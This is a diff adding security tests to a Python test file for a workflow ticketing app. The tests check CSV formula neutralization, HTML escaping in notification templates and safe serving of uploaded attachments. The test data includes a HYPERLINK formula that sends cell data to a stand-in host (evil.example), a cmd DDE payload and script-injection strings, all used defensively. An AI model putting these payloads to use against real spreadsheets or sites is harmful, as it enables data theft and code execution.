@@ -5,10 +5,11 @@ SQLite and PostgreSQL; the answer is what a user or client sees, and the rows th
 """
 from __future__ import annotations
 
+import io
 import time
 import tracemalloc
 
-from input_kit import api_call, billion_laughs, counts, make_api_app, text_of
+from input_kit import api_call, billion_laughs, counts, incident, make_api_app, submit, text_of, ticket_row
 
 
 # --- 6. YAML alias bombs ------------------------------------------------------------------
@@ -79,3 +80,70 @@ def test_a_flow_document_over_one_mebibyte_is_refused(demo):
                             workflow="# " + "x" * (1024 * 1024) + "\nkey: big\n")
     assert body["code"] == 3900005 and "document too large" in body["message"]
     assert counts(demo) == before
+
+
+# --- 12 (part). CSV formulas, notice HTML, attachment types ------------------------------------
+
+def test_formula_in_a_service_name_is_neutralized_in_the_statistics_csv(browser, demo, make_service):
+    flow = ("key: evil\nname: '=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")'\nservice_type: request\nnodes:\n"
+            "  - {key: s, name: '@SUM(1+1)', kind: start, fields: [{key: title, name: 标题, type: STRING}]}\n"
+            "  - {key: a, name: '-2+3', kind: manual, processors: {type: PERSON, value: [admin]}}\n"
+            "  - {key: e, name: 结束, kind: end}\n"
+            "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
+    make_service(flow)
+    alice = browser("alice")
+    submit(alice, demo, "evil", {"title": "+cmd|' /C calc'!A0"})
+    csv = browser("admin").get("/statistics/top_services.csv").get_data(as_text=True)
+    assert "'=HYPERLINK(" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"' in csv
+
+
+def test_ticket_title_in_an_admin_notice_templates_html_block_is_escaped(browser, demo):
+    from app.extensions import db
+    from app.models import Notification, Ticket
+    from app.services.notify.delivery import build_message
+
+    admin = browser("admin")
+    template = ("{% block subject %}待办 {{ ticket.title }}{% endblock %}{% block body %}{{ ticket.title }}{% endblock %}"
+                "{% block html %}<p>单据 <b>{{ ticket.title }}</b></p>{% endblock %}")
+    response = admin.post("/admin/notifysettings/template/todo/", {"source": template})
+    assert response.status_code in (200, 302)
+    ticket_id = submit(browser("alice"), demo, "account_apply",
+                       {"title": "<img src=x onerror=alert(1)>", "system": "crm", "account_type": "permanent",
+                        "reason": "工作需要"})
+    with demo.app_context():
+        ticket = db.session.get(Ticket, ticket_id)
+        notice = db.session.query(Notification).filter_by(ticket_id=ticket_id, kind="todo").first()
+        message = build_message(notice, ticket)
+        db.session.remove()
+    assert "<img" not in message.html and "&lt;img src=x onerror=alert(1)&gt;" in message.html
+    assert "<b>" in message.html                          # the admin's own markup stays
+    assert "<img src=x onerror=alert(1)>" in message.text   # plain text stays as typed
+
+
+def test_attachment_uploaded_as_text_html_is_served_as_a_download_with_a_safe_type(browser, demo):
+    alice = browser("alice")
+    upload = (io.BytesIO(b"<script>alert(document.cookie)</script>"), "notes.txt", "text/html")
+    ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
+                       content_type="multipart/form-data")
+    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
+    response = alice.get(f"/tickets/attachments/{stored['id']}")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"].startswith("text/plain")
+    assert response.headers["Content-Disposition"].startswith("attachment")
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_attachment_with_an_extension_off_the_type_list_is_served_as_octet_stream(browser, demo):
+    demo.config["UPLOAD_EXTENSIONS"].append("html")
+    try:
+        alice = browser("alice")
+        upload = (io.BytesIO(b"<script>alert(1)</script>"), "page.html", "text/html")
+        ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
+                           content_type="multipart/form-data")
+    finally:
+        demo.config["UPLOAD_EXTENSIONS"].remove("html")
+    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
+    response = alice.get(f"/tickets/attachments/{stored['id']}")
+    assert response.headers["Content-Type"] == "application/octet-stream"
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
